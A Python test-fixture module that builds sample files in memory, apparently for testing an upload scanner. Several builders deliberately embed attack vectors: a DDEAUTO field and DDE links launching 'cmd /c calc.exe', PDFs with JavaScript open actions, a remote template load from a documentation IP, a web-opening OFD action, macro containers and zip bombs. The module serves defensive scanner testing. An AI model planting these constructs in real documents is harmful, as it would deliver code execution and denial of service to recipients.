"""Real sample files built in memory, for the tests of uploadscan, xunshi and the portal.

Each function returns the bytes of one file; the name to upload it under is up to the test
(``("报告.docx", samples.docx())``). Nothing here touches the disk or the database.
"""

from __future__ import annotations

import base64
import functools
import io
import itertools
import struct
import zipfile
import zlib

__all__ = [
    "DDE_INSTRUCTION",
    "cfb",
    "doc",
    "doc_with_dde",
    "docm",
    "docx",
    "docx_with_activex",
    "docx_with_alt_chunk",
    "docx_with_external_template",
    "docx_with_field",
    "exe",
    "gif",
    "html",
    "jpeg",
    "ofd",
    "ofd_opening_a_web_page",
    "pdf",
    "pdf_opening_with_javascript",
    "pdf_with_catalog_entry",
    "pdf_with_javascript",
    "pdf_with_open_action",
    "pdf_with_page_content",
    "png",
    "text",
    "xls",
    "xls_with_dde_link",
    "xls_with_macro_sheet",
    "xls_with_macros",
    "xls_with_workbook_link",
    "xlsx",
    "xlsx_with_dde_link",
    "zip_bomb",
    "zip_lying_about_size",
    "zip_many_members",
    "zip_nested",
    "zip_of",
    "zip_ratio_bomb",
    "zip_with_legacy_names",
]


# --- images -----------------------------------------------------------------------------------


def png(width: int = 2, height: int = 2) -> bytes:
    """A valid grey PNG."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


# An 8×8 grey baseline JPEG written by libjpeg (cjpeg -grayscale -quality 50), decoded
# without a warning by libjpeg when this file was written.
_JPEG = (
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERX"
    "RTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/wAALCAAIAAgBAREA/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcI"
    "CQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcY"
    "GRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKj"
    "pKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/9oACAEBAAA/ACv/"
    "2Q=="
)


def jpeg() -> bytes:
    """A valid 8×8 JPEG."""
    return base64.b64decode(_JPEG)


def gif() -> bytes:
    """A valid 1×1 transparent GIF."""
    return base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")


def exe() -> bytes:
    """The start of a Windows program: an MZ header pointing at a PE header."""
    header = bytearray(256)
    header[0:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    header[0x80:0x84] = b"PE\x00\x00"
    return bytes(header)


def text(body: str = "巡视组谈话记录\n第一条：情况属实。\n", encoding: str = "utf-8") -> bytes:
    return body.encode(encoding)


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


# --- PDF --------------------------------------------------------------------------------------


def _pdf(objects: list[bytes], *, root: int = 1, version: bytes = b"1.7") -> bytes:
    """A PDF with a correct cross-reference table; objects are numbered from 1."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_PAGE_TEXT = b"BT /F1 24 Tf 72 720 Td (Xunshi) Tj ET"


def pdf(
    *, catalog: bytes = b"", content: bytes | None = None, extra: tuple[bytes, ...] = ()
) -> bytes:
    """A one-page PDF that says "Xunshi", its page content compressed as usual.

    catalog adds entries to the catalog, content replaces the page content (uncompressed),
    extra appends objects numbered from 6.
    """
    page = (
        _stream(content)
        if content is not None
        else _stream(zlib.compress(_PAGE_TEXT), b" /Filter /FlateDecode")
    )
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] " + catalog + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            page,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra,
        ]
    )


def pdf_with_open_action(action: bytes) -> bytes:
    """A PDF whose /OpenAction is the given value; object 6 is a web-link action."""
    data = pdf(extra=(b"<< /S /URI /URI (http://example.com/) >>",))
    return data.replace(b"/OpenAction [3 0 R /Fit]", b"/OpenAction " + action, 1)


def pdf_with_catalog_entry(entry: bytes) -> bytes:
    return pdf(catalog=entry + b" ")


def pdf_with_page_content(content: bytes) -> bytes:
    return pdf(content=content)


def pdf_with_javascript(
    hex_escaped: bool = False, *, in_object_stream: bool = False, stream_filter: str = "flate"
) -> bytes:
    """A PDF that runs JavaScript when opened (a document-level script in the /Names tree).

    hex_escaped writes the names as /J#61vaScript and /J#53; in_object_stream puts the name
    tree and the script in an object stream (PDF 1.5, with a cross-reference stream), encoded
    with stream_filter (see `_pdf_compressed`).
    """
    js_key, js = (b"/J#61vaScript", b"/J#53") if hex_escaped else (b"/JavaScript", b"/JS")
    # Objects 6 and 7, or 7 and 8 when object 6 is the object stream that holds them.
    tree_number = 7 if in_object_stream else 6
    tree = b"<< " + js_key + b" << /Names [(start) %d 0 R] >> >>" % (tree_number + 1)
    action = b"<< /S " + js_key + b" " + js + b" (app.alert\\('1'\\);) >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names %d 0 R >>" % tree_number,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(zlib.compress(_PAGE_TEXT), b" /Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if not in_object_stream:
        return _pdf([*objects, tree, action])
    return _pdf_compressed(objects, packed=[tree, action], stream_filter=stream_filter)


def pdf_opening_with_javascript(stream_filter: str = "none", *, listed: bool = True) -> bytes:
    """A PDF whose /OpenAction runs JavaScript, the action packed in an object stream.

    stream_filter encodes the object stream (see `_pdf_compressed`); listed=False leaves the
    packed object out of the cross-reference stream, where a forgiving reader still finds it.
    """
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(zlib.compress(_PAGE_TEXT), b" /Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    action = b"<< /S /JavaScript /JS (app.launchURL\\('http://example.com/'\\);) >>"
    return _pdf_compressed(objects, packed=[action], stream_filter=stream_filter, listed=listed)


_STREAM_FILTERS = {
    "none": (lambda data: data, b""),
    "flate": (zlib.compress, b" /Filter /FlateDecode"),
    "hex": (lambda data: data.hex().encode() + b">", b" /Filter /ASCIIHexDecode"),
    "a85+flate": (
        lambda data: base64.a85encode(zlib.compress(data)) + b"~>",
        b" /Filter [/ASCII85Decode /FlateDecode]",
    ),
}


def _pdf_compressed(
    objects: list[bytes], *, packed: list[bytes], stream_filter: str = "flate", listed: bool = True
) -> bytes:
    """PDF 1.5: objects 1..n plain, then one object stream holding `packed` (numbered on from
    n + 2), then a cross-reference stream.

    stream_filter: "flate" (as writers do), "none" (allowed by the standard: the objects lie
    readable in the stream), "hex" or "a85+flate"; listed=False leaves the packed objects out
    of the cross-reference stream.
    """
    encode, filter_entry = _STREAM_FILTERS[stream_filter]
    n = len(objects)
    first_packed = n + 2
    header, body = b"", b""
    for i, obj in enumerate(packed):
        header += b"%d %d " % (first_packed + i, len(body))
        body += obj + b"\n"
    objstm = _stream(
        encode(header + body),
        b" /Type /ObjStm /N %d /First %d" % (len(packed), len(header)) + filter_entry,
    )
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate([*objects, objstm], start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_number = first_packed + len(packed)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
    rows += [
        struct.pack(">BIH", 2, n + 1, i) if listed else struct.pack(">BIH", 0, 0, 0xFFFF)
        for i in range(len(packed))
    ]
    xref_offset = len(out)
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
    data = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n" % xref_number + _stream(
        data,
        b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % (xref_number + 1),
    )
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


# --- Office Open XML --------------------------------------------------------------------------


def docx(paragraph: str = "巡视组工作底稿") -> bytes:
    """A Word document made by python-docx."""
    import docx as python_docx  # imported here: other apps' tests load this module too

    document = python_docx.Document()
    document.add_paragraph(paragraph)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    """An Excel workbook made by openpyxl."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["整改事项", "责任单位"])
    sheet.append(["完善财务制度", "县财政局"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rewrite_zip(data: bytes, *, replace: dict[str, bytes], add: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name, body in add.items():
            dst.writestr(name, body)
    return out.getvalue()


def docm() -> bytes:
    """A macro-enabled Word document: word/vbaProject.bin and the macroEnabled content type."""
    plain = docx("含宏的文档")
    with zipfile.ZipFile(io.BytesIO(plain)) as z:
        types = z.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    ).replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return _rewrite_zip(
        plain,
        replace={"[Content_Types].xml": types},
        add={"word/vbaProject.bin": cfb({"VBA/dir": b"\x01" * 64, "PROJECT": b'ID="{}"'})},
    )


def docx_with_activex() -> bytes:
    """A Word document carrying an ActiveX control part."""
    return _rewrite_zip(
        docx(),
        replace={},
        add={"word/activeX/activeX1.xml": b"<ax:ocx/>", "word/activeX/activeX1.bin": b"\x00" * 8},
    )


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_with_field(instruction: str, *, simple: bool = False, pieces: int = 1) -> bytes:
    """A Word document (python-docx) with a field: a w:fldSimple, or the instruction cut in
    `pieces` w:instrText runs between fldChar begin, separate and end, as Word writes it."""
    import docx as python_docx  # imported here: other apps' tests load this module too
    from docx.oxml import parse_xml

    document = python_docx.Document()
    paragraph = document.add_paragraph("巡视组工作底稿")._p
    if simple:
        paragraph.append(
            parse_xml(
                f"<w:fldSimple {_W} w:instr={_xml_attribute(instruction)}>"
                "<w:r><w:t>1</w:t></w:r></w:fldSimple>"
            )
        )
    else:
        size = -(-len(instruction) // pieces)
        cut = [instruction[i : i + size] for i in range(0, len(instruction), size)]
        runs = [f'<w:r {_W}><w:fldChar w:fldCharType="begin"/></w:r>']
        runs += [
            f'<w:r {_W}><w:instrText xml:space="preserve">{_xml_text(part)}</w:instrText></w:r>'
            for part in cut
        ]
        runs += [
            f'<w:r {_W}><w:fldChar w:fldCharType="separate"/></w:r>',
            f"<w:r {_W}><w:t>1</w:t></w:r>",
            f'<w:r {_W}><w:fldChar w:fldCharType="end"/></w:r>',
        ]
        for run in runs:
            paragraph.append(parse_xml(run))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _xml_attribute(text: str) -> str:
    return '"' + _xml_text(text).replace('"', "&quot;") + '"'


DDE_INSTRUCTION = ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '


def docx_with_external_template(*, quote: str = '"') -> bytes:
    """A Word document whose settings attach a template from the network (a relationship with
    TargetMode External), its attributes in the given quotes."""
    plain = docx()
    with zipfile.ZipFile(io.BytesIO(plain)) as z:
        settings = z.read("word/settings.xml")
    settings = settings.replace(
        b"<w:defaultTabStop",
        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships" r:id="rId1"/><w:defaultTabStop',
        1,
    )
    q = quote
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"<Relationship Id={q}rId1{q} Type={q}http://schemas.openxmlformats.org/officeDocument/"
        f"2006/relationships/attachedTemplate{q} Target={q}http://192.0.2.1/t.dotm{q} "
        f"TargetMode={q}External{q}/></Relationships>"
    ).encode()
    return _rewrite_zip(
        plain,
        replace={"word/settings.xml": settings},
        add={"word/_rels/settings.xml.rels": rels},
    )


def docx_with_alt_chunk() -> bytes:
    """A Word document that imports an RTF part when it opens (w:altChunk)."""
    plain = docx()
    with zipfile.ZipFile(io.BytesIO(plain)) as z:
        rels = z.read("word/_rels/document.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/aFChunk" Target="chunk.rtf"/></Relationships>',
    )
    return _rewrite_zip(
        plain,
        replace={"word/_rels/document.xml.rels": rels},
        add={"word/chunk.rtf": b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}"},
    )


def xlsx_with_dde_link() -> bytes:
    """An Excel workbook with an external link to another program by DDE."""
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
        b'<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    return _rewrite_zip(xlsx(), replace={}, add={"xl/externalLinks/externalLink1.xml": link})


# --- old Office (a minimal compound file writer; olefile only reads) --------------------------

_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_NONE = 0xFFFFFFFF
_SECTOR = 512


def cfb(streams: dict[str, bytes]) -> bytes:
    """A compound file (the container of .doc/.xls) holding the given streams.

    Paths use "/" for storages ("_VBA_PROJECT_CUR/VBA/dir"). Every stream is padded to 4096
    bytes so that it lives in regular sectors and no mini stream is needed.
    """
    # Directory: the root, then each storage and stream; children are chained by right sibling.
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index: dict[tuple[str, ...], int] = {(): 0}
    for path, body in streams.items():
        parts = tuple(path.split("/"))
        for depth in range(1, len(parts) + 1):
            key = parts[:depth]
            if key in index:
                continue
            is_stream = depth == len(parts)
            entries.append(
                {
                    "name": key[-1],
                    "type": 2 if is_stream else 1,
                    "children": [],
                    "data": body.ljust(4096, b"\x00") if is_stream else b"",
                }
            )
            index[key] = len(entries) - 1
            entries[index[key[:-1]]]["children"].append(len(entries) - 1)

    sectors: list[bytes] = []
    fat: list[int] = []
    for entry in entries:
        data = entry["data"]
        if not data:
            entry["start"], entry["size"] = _END, 0
            continue
        count = len(data) // _SECTOR
        entry["start"], entry["size"] = len(sectors), len(data)
        for i in range(count):
            sectors.append(data[i * _SECTOR : (i + 1) * _SECTOR])
            fat.append(len(sectors) if i < count - 1 else _END)

    right: dict[int, int] = {}
    for entry in entries:
        kids = sorted(
            entry["children"], key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper())
        )
        entry["child"] = kids[0] if kids else _NONE
        for a, b in itertools.pairwise(kids):
            right[a] = b
    directory = b""
    for number, entry in enumerate(entries):
        name = entry["name"].encode("utf-16-le") + b"\x00\x00"
        directory += struct.pack(
            "<64sHBBIII16sIQQIII",
            name,
            len(name),
            entry["type"],
            1,  # black
            _NONE,
            right.get(number, _NONE),
            entry["child"],
            b"\x00" * 16,
            0,
            0,
            0,
            entry["start"],
            entry["size"],
            0,
        )
    directory = directory.ljust(-(-len(directory) // _SECTOR) * _SECTOR, b"\x00")
    dir_start = len(sectors)
    dir_count = len(directory) // _SECTOR
    for i in range(dir_count):
        sectors.append(directory[i * _SECTOR : (i + 1) * _SECTOR])
        fat.append(dir_start + i + 1 if i < dir_count - 1 else _END)

    fat_count = 1
    while (len(sectors) + fat_count) > fat_count * (_SECTOR // 4):
        fat_count += 1
    fat_start = len(sectors)
    fat += [_FAT] * fat_count
    fat += [_FREE] * (fat_count * (_SECTOR // 4) - len(fat))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    assert fat_count <= 109

    difat = [fat_start + i for i in range(fat_count)] + [_FREE] * (109 - fat_count)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x00" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        fat_count,
        dir_start,
        0,
        4096,
        _END,
        0,
        _END,
        0,
    ) + struct.pack("<109I", *difat)
    return header + b"".join(sectors) + fat_bytes


def _biff(*records: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", rtype, len(body)) + body for rtype, body in records)


def _workbook_stream(*, macro_sheet: bool = False, links: tuple[bytes, ...] = ()) -> bytes:
    bof = (0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
    sheets = [(0x0085, struct.pack("<IBB", 0, 0, 0) + b"\x06\x00Sheet1")]
    if macro_sheet:
        sheets.append((0x0085, struct.pack("<IBB", 0, 0, 1) + b"\x06\x00Macro1"))
    supbooks = [(0x01AE, link) for link in links]
    return _biff(bof, *sheets, *supbooks, (0x000A, b""))


def _supbook(sheets: int, path: str) -> bytes:
    """A SUPBOOK record's body: sheet count, path length, flags (UTF-16), path."""
    return struct.pack("<HHB", sheets, len(path), 1) + path.encode("utf-16-le")


def xls() -> bytes:
    """A compound file with a Workbook stream and nothing dangerous (enough for the checks)."""
    return cfb({"Workbook": _workbook_stream()})


def xls_with_macros() -> bytes:
    """A compound file with a Workbook stream and a VBA project (_VBA_PROJECT_CUR storage)."""
    return cfb(
        {
            "Workbook": _workbook_stream(),
            "_VBA_PROJECT_CUR/VBA/dir": b"\x01" * 64,
            "_VBA_PROJECT_CUR/VBA/_VBA_PROJECT": b"\xcc\x61" + b"\x00" * 8,
            "_VBA_PROJECT_CUR/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"',
        }
    )


def xls_with_dde_link() -> bytes:
    """An old Excel workbook linked by DDE to a program: a SUPBOOK of no sheets whose path
    names the program and the topic; beside it the usual SUPBOOK of the workbook itself."""
    itself = struct.pack("<HH", 1, 0x0401)
    return cfb({"Workbook": _workbook_stream(links=(itself, _supbook(0, "cmd\x03/c calc.exe")))})


def xls_with_workbook_link() -> bytes:
    """An old Excel workbook whose formulas read a sheet of another workbook (allowed)."""
    path = "\x01\x01D:\\台账\\2025年.xls"
    return cfb({"Workbook": _workbook_stream(links=(_supbook(1, path) + b"\x06\x00\x00Sheet1",))})


def xls_with_macro_sheet() -> bytes:
    """An Excel 4.0 macro sheet (XLM): no VBA storage, only a BOUNDSHEET of type macro."""
    return cfb({"Workbook": _workbook_stream(macro_sheet=True)})


def doc(text: str = "巡视组工作底稿", *, wide: bool = True) -> bytes:
    """A compound file with a WordDocument stream whose text (after a short header) is stored
    in UTF-16, or as single bytes (Word's "compressed" text) when wide is False."""
    body = text.encode("utf-16-le") if wide else text.encode("cp1252")
    return cfb({"WordDocument": b"\xec\xa5" + b"\x00" * 30 + body, "1Table": b"\x00" * 16})


def doc_with_dde(*, wide: bool = True) -> bytes:
    """An old Word file whose text holds a DDEAUTO field (0x13 instruction 0x14 result 0x15)."""
    return doc("Report \x13" + DDE_INSTRUCTION + "\x141\x15 end", wide=wide)


# --- OFD (GB/T 33190) -------------------------------------------------------------------------

_OFD_NS = 'xmlns:ofd="http://www.ofdspec.org/2016"'


def ofd(
    *,
    author: str = "县纪委办公室 张某",
    actions: str = "",
    extra: dict[str, bytes] | None = None,
    picture: bytes | None = None,
) -> bytes:
    """A minimal one-page OFD: OFD.xml (DocInfo with an author and a creator), the document,
    its public resources, one page with a line of text; actions are put in Document.xml's
    <ofd:Actions>, extra members are added as they are, picture is a Res/ image on the page."""
    ofd_xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD {_OFD_NS} Version="1.0" DocType="OFD">'
        "<ofd:DocBody><ofd:DocInfo><ofd:DocID>0c8a9d4e1f2b4c6d8e0f1a2b3c4d5e6f</ofd:DocID>"
        f"<ofd:Title>巡视工作通知</ofd:Title><ofd:Author>{author}</ofd:Author>"
        "<ofd:CreationDate>2026-03-01</ofd:CreationDate>"
        "<ofd:Creator>数科OFD版式办公套件</ofd:Creator><ofd:CreatorVersion>3.0.21.0301"
        '</ofd:CreatorVersion><ofd:CustomDatas><ofd:CustomData Name="终端">PC-ZHANG-01'
        "</ofd:CustomData></ofd:CustomDatas></ofd:DocInfo>"
        "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Document {_OFD_NS}><ofd:CommonData>'
        "<ofd:MaxUnitID>10</ofd:MaxUnitID><ofd:PageArea><ofd:PhysicalBox>0 0 210 297"
        "</ofd:PhysicalBox></ofd:PageArea><ofd:PublicRes>PublicRes.xml</ofd:PublicRes>"
        '</ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/>'
        f"</ofd:Pages>{actions}</ofd:Document>"
    )
    resources = (
        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Res {_OFD_NS} BaseLoc="Res">'
        '<ofd:Fonts><ofd:Font ID="2" FontName="宋体" FamilyName="宋体"/></ofd:Fonts>'
        + (
            '<ofd:MultiMedias><ofd:MultiMedia ID="3" Type="Image">'
            "<ofd:MediaFile>image_3.png</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias>"
            if picture
            else ""
        )
        + "</ofd:Res>"
    )
    page = (
        f'<?xml version="1.0" encoding="UTF-8"?><ofd:Page {_OFD_NS}><ofd:Content><ofd:Layer ID="4">'
        '<ofd:TextObject ID="5" Boundary="20 20 170 10" Font="2" Size="5">'
        '<ofd:TextCode X="0" Y="5">巡视组工作通知</ofd:TextCode></ofd:TextObject>'
        + (
            '<ofd:ImageObject ID="6" Boundary="20 40 20 20" CTM="20 0 0 20 0 0" ResourceID="3"/>'
            if picture
            else ""
        )
        + "</ofd:Layer></ofd:Content></ofd:Page>"
    )
    members = {
        "OFD.xml": ofd_xml.encode(),
        "Doc_0/Document.xml": document.encode(),
        "Doc_0/PublicRes.xml": resources.encode(),
        "Doc_0/Pages/Page_0/Content.xml": page.encode(),
    }
    if picture:
        members["Doc_0/Res/image_3.png"] = picture
    return zip_of({**members, **(extra or {})})


def ofd_opening_a_web_page() -> bytes:
    """An OFD that opens a web address as soon as the document is opened (Event DO)."""
    return ofd(
        actions='<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="http://192.0.2.1/x"/>'
        "</ofd:Action></ofd:Actions>"
    )


# --- ZIP --------------------------------------------------------------------------------------


def zip_of(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, body in members.items():
            z.writestr(name, body)
    return out.getvalue()


def zip_with_legacy_names(members: dict[str, bytes], *, encoding: str = "gbk") -> bytes:
    """A ZIP whose member names are written in `encoding` without the UTF-8 flag, as Chinese
    Windows (Explorer, WinRAR, 360压缩) writes them."""
    placeholders = {
        f"m{i}".ljust(len(name.encode(encoding)), "_"): name for i, name in enumerate(members)
    }
    data = zip_of({p: members[name] for p, name in placeholders.items()})
    for placeholder, name in placeholders.items():
        raw = name.encode(encoding)
        assert data.count(placeholder.encode()) == 2  # the local header and the directory
        data = data.replace(placeholder.encode(), raw)
    return data


@functools.cache
def zip_bomb() -> bytes:
    """About 200 KB of ZIP that inflates to 210 MB of zeros (honest sizes, streamed in)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open("zeros.txt", "w", force_zip64=True) as member,
    ):
        block = b"\x00" * (1024 * 1024)
        for _ in range(210):
            member.write(block)
    return out.getvalue()


def zip_ratio_bomb() -> bytes:
    """A few KB that inflate to 5 MB: every member ratio beyond 100:1."""
    return zip_of({"zeros.txt": b"\x00" * (5 * 1024 * 1024)})


def zip_many_members(count: int = 5001) -> bytes:
    return zip_of({f"f{i}.txt": b"" for i in range(count)}, method=zipfile.ZIP_STORED)


def zip_nested() -> bytes:
    return zip_of({"说明.txt": text(), "inner.zip": zip_of({"a.txt": text()})})


def zip_lying_about_size() -> bytes:
    """A member whose directory entry claims 100 bytes while its data inflates to 2 MB."""
    real = zip_of({"a.txt": b"\x00" * (2 * 1024 * 1024)})
    with zipfile.ZipFile(io.BytesIO(real)) as z:
        info = z.infolist()[0]
    true_size = struct.pack("<I", info.file_size)
    assert real.count(true_size) == 2  # the local header and the central directory
    return real.replace(true_size, struct.pack("<I", 100))
